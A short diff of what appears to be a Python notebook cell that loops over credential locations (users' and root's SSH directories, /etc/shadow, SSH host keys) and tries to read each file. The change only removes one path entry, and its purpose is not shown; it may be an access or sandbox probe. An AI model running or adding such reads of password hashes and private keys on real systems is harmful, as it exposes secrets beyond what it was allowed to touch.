@@ -2,7 +2,7 @@
 # cells = ["ok"]
 # %% own
 import glob, os
-for pattern in ("/root/.ssh/*", "/home/*/.ssh/*", "/etc/shadow", "/etc/ssh/*key", os.path.expanduser("~root/.ssh/*")):
+for pattern in ("/home/*/.ssh/*", "/etc/shadow", "/etc/ssh/*key", os.path.expanduser("~root/.ssh/*")):
     for name in [pattern, *glob.glob(pattern)]:
         try:
             open(name).read()
